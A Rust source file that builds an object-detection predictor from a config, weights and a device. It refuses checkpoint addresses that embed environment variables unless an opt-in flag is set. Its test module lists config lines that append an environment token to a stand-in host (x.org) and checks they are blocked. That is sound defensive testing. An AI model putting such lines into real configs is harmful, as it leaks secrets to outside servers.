//! A config, weights and a device make a [`Predictor`].

use std::sync::Arc;

use burn::tensor::Device;

use crate::Precision;
use crate::build::OpenCheckpoint;
use crate::config::{Config, ConfigErrors, Diagnostic, cut};
use crate::data::Lookup;
use crate::data::pipeline::Pipeline;
use crate::layers::{Mode, Params, StateSource};
use crate::limits;
use crate::model;
use crate::predict::Predictor;
use crate::registry::Registry;
use crate::weights::names::asks_a_stranger;
use crate::weights::{Checkpoint, LoadReport, Wanted, report};

/// How to make a [`Predictor`].
pub struct PredictorBuilder<'a> {
    config: &'a Config,
    checkpoint: Option<Arc<Checkpoint>>,
    device: Option<&'a Device>,
    registry: Option<&'a Registry>,
    open: Option<&'a OpenCheckpoint<'a>>,
    prefix: Option<&'a str>,
    allow_incomplete: bool,
    allow_env_in_urls: bool,
    precision: Precision,
}

impl<'a> PredictorBuilder<'a> {
    /// Weights of the whole model.
    pub fn checkpoint(mut self, checkpoint: impl Into<Arc<Checkpoint>>) -> Self {
        self.checkpoint = Some(checkpoint.into());
        self
    }

    /// Where to run; the CPU if never said.
    pub fn device(mut self, device: &'a Device) -> Self {
        self.device = Some(device);
        self
    }

    /// In which numbers convolutions multiply, where the device has them; see [`Predictor::precision`].
    pub fn precision(mut self, precision: Precision) -> Self {
        self.precision = precision;
        self
    }

    /// Components beside those of this crate.
    pub fn registry(mut self, registry: &'a Registry) -> Self {
        self.registry = Some(registry);
        self
    }

    /// How to get the checkpoints that `init_cfg` and `load_from` name; used where [`PredictorBuilder::checkpoint`] is not.
    pub fn open_with(mut self, open: &'a OpenCheckpoint<'a>) -> Self {
        self.open = Some(open);
        self
    }

    /// What the checkpoint's keys have before the model's, such as `teacher.`.
    pub fn prefix(mut self, prefix: Option<&'a str>) -> Self {
        self.prefix = prefix;
        self
    }

    /// Whether initial values are good enough where the checkpoint lacks most of a part of the model, or a tensor of it cannot be
    /// read, instead of being an error.
    pub fn allow_incomplete(mut self, allow: bool) -> Self {
        self.allow_incomplete = allow;
        self
    }

    /// Whether addresses of a config that read environment variables are opened, instead of being an error: their server would see what was
    /// computed from the variables. Addresses of torchvision, OpenMMLab and timm are opened in any case.
    pub fn allow_env_in_urls(mut self, allow: bool) -> Self {
        self.allow_env_in_urls = allow;
        self
    }

    /// Why the checkpoint that the config calls `name` is not to be opened, if so.
    fn refusal(&self, name: &str) -> Option<String> {
        let read: Vec<_> = self
            .config
            .env
            .iter()
            .map(|(name, _)| format!("`{name}`"))
            .collect();
        let told = !read.is_empty() && !self.allow_env_in_urls && asks_a_stranger(name);
        told.then(|| {
            format!(
                "this config reads the environment ({}), and its address may tell the server what it read: `{}`; if that is meant, allow \
                 it with --allow-env-in-urls",
                read.join(", "),
                cut(name, 1000)
            )
        })
    }

    /// Whether the weights are good enough; `whole`, if they should be those of the whole model.
    fn accepts(&self, report: &LoadReport, whole: bool) -> bool {
        let nothing = report.matched.is_empty() && whole;
        let complete = report.unreadable.is_empty() && report.lacking().is_empty();
        !nothing && report.wrong_shape.is_empty() && (complete || self.allow_incomplete)
    }

    /// Builds the model and moves its weights to the device.
    ///
    /// # Errors
    /// See [`LoadError`]. A few weights that are missing are no error: see [`Predictor::report`].
    pub fn build(self) -> Result<Predictor, LoadError> {
        let standard;
        let registry = match self.registry {
            Some(registry) => registry,
            None => {
                standard = crate::registry();
                &standard
            }
        };
        let device = self.device.cloned().unwrap_or_else(Device::flex);
        let open = |name: &str| match (self.refusal(name), self.open) {
            (Some(why), _) => Err(why),
            (None, Some(open)) => open(name),
            (None, None) => Err(format!("nothing opens `{name}`")),
        };
        let open: Option<&OpenCheckpoint> = self.open.is_some().then_some(&open);
        let checkpoint = match (&self.checkpoint, open) {
            (Some(checkpoint), _) => Some(checkpoint.clone()),
            (None, Some(open)) => load_from(self.config, open)?,
            (None, None) => None,
        };
        let errors = |problems| self.config.errors(problems);
        // Refused, where they do not fit each other, before a value is made.
        let state = model::state(self.config, registry).map_err(errors)?;
        let checkpoint = match checkpoint {
            Some(checkpoint) if self.prefix.is_none() => {
                Some(model::aligned(self.config, checkpoint, &state).map_err(errors)?)
            }
            checkpoint => checkpoint,
        };
        let held = checkpoint.as_deref().map_or(0, Checkpoint::file_len);
        let model = model::node(self.config).map_err(errors)?;
        let report = checkpoint.as_deref().map(|checkpoint| {
            let wanted: Vec<_> = state.iter().cloned().map(Wanted::from).collect();
            report(&wanted, checkpoint, self.prefix)
        });
        let accept = |report: Option<&LoadReport>| match report {
            Some(report) if !self.accepts(report, checkpoint.is_some()) => {
                Err(LoadError::Weights(Box::new(report.clone())))
            }
            _ => Ok(()),
        };
        accept(report.as_ref())?;
        limits::check_beside(model, &state, held as u64).map_err(errors)?;
        let source = checkpoint
            .clone()
            .map(|c| Box::new(StateSource::new(c, self.prefix)) as Box<_>);
        let params = Params::new(&device, Mode::Fixed, source).compute_in(self.precision);
        let open = open.filter(|_| checkpoint.is_none());
        let detector = model::walk(self.config, registry, params.clone(), open).map_err(errors)?;
        let unreadable = params.unreadable();
        let report = match report {
            None if unreadable.is_empty() => None,
            report => Some(report.unwrap_or_default().with_unreadable(unreadable)),
        };
        accept(report.as_ref())?;
        let Some(pipeline) = model::test_pipeline(self.config) else {
            let help = "a test pipeline is at test_dataloader.dataset.pipeline, or the variable test_pipeline";
            let error = Diagnostic::error("this config has no test pipeline").help(help);
            return Err(errors(vec![error]).into());
        };
        let preprocessor = model::preprocessor(self.config).map_err(errors)?;
        let known = checkpoint.as_ref().map(|c| c.meta().classes.as_slice());
        let uninitialised = params.initialised();
        let notes = model::class_notes(self.config, known, detector.classes());
        Ok(Predictor {
            classes: model::class_names(self.config, known, detector.classes()),
            notes: errors(notes).diagnostics,
            pipeline: Pipeline::read_with(pipeline, Lookup::of(registry, self.config))
                .map_err(errors)?,
            preprocessor,
            detector,
            precision: params.store().precision(),
            device,
            report,
            uninitialised,
        })
    }
}

impl Predictor {
    /// Begins with a config.
    pub fn builder(config: &Config) -> PredictorBuilder<'_> {
        PredictorBuilder {
            config,
            checkpoint: None,
            device: None,
            registry: None,
            open: None,
            prefix: None,
            allow_incomplete: false,
            allow_env_in_urls: false,
            precision: Precision::F32,
        }
    }
}

/// The checkpoint that a config's `load_from` names.
fn load_from(config: &Config, open: &OpenCheckpoint) -> Result<Option<Arc<Checkpoint>>, LoadError> {
    let Some(node) = config.root.get("load_from").filter(|n| !n.is_none()) else {
        return Ok(None);
    };
    let fail =
        |message: String| config.errors(vec![Diagnostic::error(message).at(&node.origin, "")]);
    let name = node
        .as_str()
        .ok_or_else(|| fail("`load_from` is not a string".into()))?;
    Ok(Some(open(name).map_err(fail)?))
}

/// Why there is no [`Predictor`].
#[derive(Debug)]
pub enum LoadError {
    /// The config is wrong, or asks for something that is not built.
    Config(ConfigErrors),
    /// The checkpoint does not fit the model: it has not even half of a part, or a tensor has another shape or cannot be read.
    Weights(Box<LoadReport>),
}

impl std::fmt::Display for LoadError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            LoadError::Config(errors) => write!(f, "{errors}"),
            LoadError::Weights(report) => {
                write!(f, "the checkpoint does not fit the model")?;
                let mut start = ": it";
                for (part, missing, all) in report.lacking() {
                    write!(f, "{start} lacks {missing} of {all} tensors of `{part}`")?;
                    start = ",";
                }
                write!(f, "\n{report}")
            }
        }
    }
}

impl std::error::Error for LoadError {}

impl From<ConfigErrors> for LoadError {
    fn from(errors: ConfigErrors) -> Self {
        LoadError::Config(errors)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::MapLoader;
    use std::cell::Cell;

    const MODEL: &str = "
model = dict(
    type='RetinaNet', backbone=dict(type='ResNet', depth=18, base_channels=2, init_cfg=INIT),
    neck=dict(type='FPN', out_channels=4, num_outs=5),
    bbox_head=dict(type='RetinaHead', num_classes=2, in_channels=4, feat_channels=4, stacked_convs=1),
    test_cfg=dict(nms_pre=9, max_per_img=9, nms=dict(type='nms', iou_threshold=0.5)))
test_pipeline = [dict(type='LoadImageFromFile'), dict(type='PackDetInputs')]
";

    /// Whether an address is asked, and what is said.
    fn opened(head: &str, init: &str, allow: bool) -> (bool, String) {
        let text = format!("import os\n{head}\n{}", MODEL.replace("INIT", init));
        let mut loader = MapLoader::new([("a.py", &*text)]);
        loader.env.insert("TOKEN".into(), "secret".into());
        let config = Config::load("a.py", &loader).unwrap();
        let asked = Cell::new(false);
        let open = |_: &str| {
            asked.set(true);
            Err("no network".to_string())
        };
        let builder = Predictor::builder(&config).open_with(&open);
        let built = builder.allow_env_in_urls(allow).build();
        (asked.get(), built.unwrap_err().to_string())
    }

    #[test]
    fn the_environment_is_not_told_to_strangers() {
        let secret = [
            ("load_from = 'http://x.org/' + os.environ['TOKEN']", "None"),
            ("load_from = 'http://x.org/{{$TOKEN:}}'", "None"),
            (
                "load_from = f\"https://x.org/{os.getenv('TOKEN')[::-1]}.pth\"",
                "None",
            ),
            (
                "load_from = 'http://x.org/s' if os.environ.get('TOKEN') == 's' else 'http://x.org/t'",
                "None",
            ),
            ("load_from = '//x.org/share/' + os.environ['TOKEN']", "None"),
            (
                "t = '{{$TOKEN:}}'",
                "dict(type='Pretrained', checkpoint='http://x.org/' + t)",
            ),
        ];
        for (head, init) in secret {
            let (asked, text) = opened(head, init, false);
            assert!(
                !asked && text.contains("`TOKEN`") && text.contains("x.org"),
                "{text}"
            );
            assert!(text.contains("--allow-env-in-urls"), "{text}");
            assert!(opened(head, init, true).0, "{head}");
        }
        for head in [
            "load_from = 'http://x.org/a.pth'",
            "load_from = '{{$OTHER:http://x.org/a.pth}}'",
            "load_from = 'torchvision://resnet18'\nwork_dir = os.environ['TOKEN']",
            "load_from = '/checkpoints/' + os.environ['TOKEN']",
        ] {
            assert!(opened(head, "None", false).0, "{head}");
        }
    }
}
